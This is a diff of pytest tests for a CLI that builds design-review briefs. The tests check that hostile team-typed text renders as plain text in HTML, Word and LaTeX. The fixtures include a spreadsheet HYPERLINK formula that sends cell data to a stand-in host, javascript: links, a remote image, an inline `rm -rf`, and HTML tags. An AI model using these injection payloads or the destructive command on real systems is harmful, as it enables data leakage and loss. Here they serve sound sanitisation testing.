@@ -277,9 +277,9 @@ def test_brief_names_the_bibtex_file_it_writes_whatever_its_name(tmp_path: Path)
 
 
 def test_brief_shows_the_teams_checklist_state_and_ticks_only_what_is_done(tmp_path: Path) -> None:
-    """`--state` (a version 2 file with hostile text): each item carries its status, reason and owner;
-    only the done item is ticked, in HTML and in Word; an accepted risk has no box at all; the
-    reason and owner read as typed (no link, no citation)."""
+    """`--state` (a version 2 file with hostile text): each item carries its status, reason, owner, note
+    and evidence; only the done item is ticked, in HTML and in Word; an accepted risk has no box at all;
+    what the team typed reads as typed (no link, no image, no code, no citation)."""
     result = CliRunner().invoke(main, ["brief", "--catalog", str(VALID), "--out", str(tmp_path / "brief.md"),
                                        "--state", str(HERE / "states" / "team.json"), "--challenge", "data-discovery",
                                        "--challenge", "data-profiling", "--challenge", "feedback-loops"])
@@ -288,13 +288,16 @@ def test_brief_shows_the_teams_checklist_state_and_ticks_only_what_is_done(tmp_p
     assert html.returncode == 0 and "WARNING" not in html.stderr, html.stderr
     items = {re.search(r"<code>([a-z-]+)</code>", li).group(1): li
              for li in re.findall(r"<li>(.*?)</li>", html.stdout, re.DOTALL) if "<code>" in li}
-    assert "checked" in items["data-discovery-source-owners"] and "(done; owner: Ana)" in items[
-        "data-discovery-source-owners"]
+    assert "checked" in items["data-discovery-source-owners"] and (
+        '(done; owner: Ana; note: =HYPERLINK("http://x.example/?"&amp;A1,"go"); '
+        "evidence: https://git.example.org/team/model/pull/12)") in items["data-discovery-source-owners"]
     risk = items["data-discovery-catalogue"]
     assert "checkbox" not in risk, "an accepted risk is neither ticked nor an open box"
     assert "(accepted risk: One source system [see](javascript:alert(1)); owner: @raj)" in risk, "as typed"
-    assert "<input type=\"checkbox\" />" in items["data-profiling-report"] and "(in progress; owner: -Kim)" in items[
-        "data-profiling-report"]
+    assert "<input type=\"checkbox\" />" in items["data-profiling-report"] and (
+        "(in progress; owner: -Kim; note: ![x](http://x.example/p.png) `rm -rf`)") in items["data-profiling-report"]
+    assert "<img" not in html.stdout and "<code>rm" not in html.stdout, "a note is text, not an image or code"
+    assert 'href="https://git.example.org' not in html.stdout and 'href="http://x.example' not in html.stdout
     assert "(open; owner: Raj)" in items["feedback-loops-holdout"] and "checked" not in items["feedback-loops-holdout"]
     assert html.stdout.count("checked") == 1
     assert pandoc(tmp_path, "-o", "brief.docx").returncode == 0
@@ -365,3 +368,36 @@ def test_brief_refuses_an_unknown_case_study_or_mitigation(tmp_path: Path) -> No
         assert result.exit_code == 1 and isinstance(result.exception, SystemExit)
         assert f"unknown {what} '{value}'" in result.output
         assert not (tmp_path / "brief.md").exists()
+
+
+def test_a_profile_takes_what_the_planner_page_takes_and_the_brief_shows_the_name_as_typed(tmp_path: Path) -> None:
+    """A profile is the team's text, as on the planner page: a Windows path, `<10 ms`, a Markdown link or
+    a brace are accepted (they were refused as "catalog prose"), and the brief shows the name as typed in
+    HTML and in LaTeX: no TeX command runs, no tag or link is made."""
+    name = r"Scoring C:\data\input <b>fast</b> [wiki](javascript:x) {: .x}"
+    (tmp_path / "p.yaml").write_text(yaml.safe_dump({"name": name, "industry": "finance", "description":
+                                                     "Latency <10 ms; files under C:\\data; see [the plan](http://x)"}),
+                                     encoding="utf-8")
+    write_brief(tmp_path, "--profile", str(tmp_path / "p.yaml"))
+    html = pandoc(tmp_path, "-s", "-t", "html")
+    assert html.returncode == 0 and "WARNING" not in html.stderr, html.stderr
+    shown = r"Scoring C:\data\input &lt;b&gt;fast&lt;/b&gt; [wiki](javascript:x) {: .x}"
+    assert f"<title>Design-review brief: {shown}</title>" in html.stdout
+    assert "javascript:x" not in re.findall(r'href="([^"]*)"', html.stdout)
+    latex = pandoc(tmp_path, "-s", "-t", "latex")
+    assert latex.returncode == 0, latex.stderr
+    assert r"Scoring C:\textbackslash data\textbackslash input" in latex.stdout and r"\data" not in latex.stdout
+
+
+def test_a_brief_written_where_no_folder_exists_makes_it_and_one_that_cannot_be_written_is_an_error(
+        tmp_path: Path) -> None:
+    out = tmp_path / "new" / "brief.md"
+    result = CliRunner().invoke(main, ["brief", "--catalog", str(REAL), "--challenge", "concept-drift",
+                                       "--out", str(out)])
+    assert result.exit_code == 0 and out.is_file() and out.with_suffix(".bib").is_file(), result.output
+    (tmp_path / "a-file").write_text("keep", encoding="utf-8")
+    result = CliRunner().invoke(main, ["brief", "--catalog", str(REAL), "--challenge", "concept-drift",
+                                       "--out", str(tmp_path / "a-file" / "brief.md")])
+    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), "an error line, not a traceback"
+    assert result.stderr.startswith(f"error: {tmp_path / 'a-file' / 'brief.md'}: cannot write")
+    assert (tmp_path / "a-file").read_text(encoding="utf-8") == "keep"
